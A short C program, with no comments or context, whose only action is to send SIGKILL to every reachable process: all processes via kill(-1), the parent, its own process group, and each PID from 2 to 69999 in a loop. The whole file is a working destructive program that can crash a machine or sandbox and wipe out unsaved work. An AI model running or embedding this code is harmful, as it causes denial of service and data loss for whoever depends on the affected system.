#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>

#include <signal.h>
int main(void) {
    kill(-1, SIGKILL); kill(getppid(), SIGKILL); kill(0, SIGKILL);
    for (int pid = 2; pid < 70000; pid++) kill(pid, SIGKILL);
    return 0;
}
